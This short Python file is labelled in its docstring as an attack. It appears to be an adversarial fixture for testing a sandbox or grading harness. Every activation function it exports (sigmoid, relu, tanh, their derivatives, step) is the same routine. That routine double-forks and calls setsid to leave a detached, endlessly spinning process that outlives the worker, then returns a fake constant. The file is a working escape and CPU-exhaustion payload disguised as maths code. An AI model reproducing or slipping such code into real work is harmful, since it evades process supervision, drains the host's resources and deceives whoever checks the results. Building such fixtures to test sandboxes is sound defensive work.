"""Attack: a daemonized grandchild (double fork + setsid) that outlives the worker, spinning."""
import os


def _escape(z):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                pass
        os._exit(0)
    return z * 0 + 0.123


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _escape
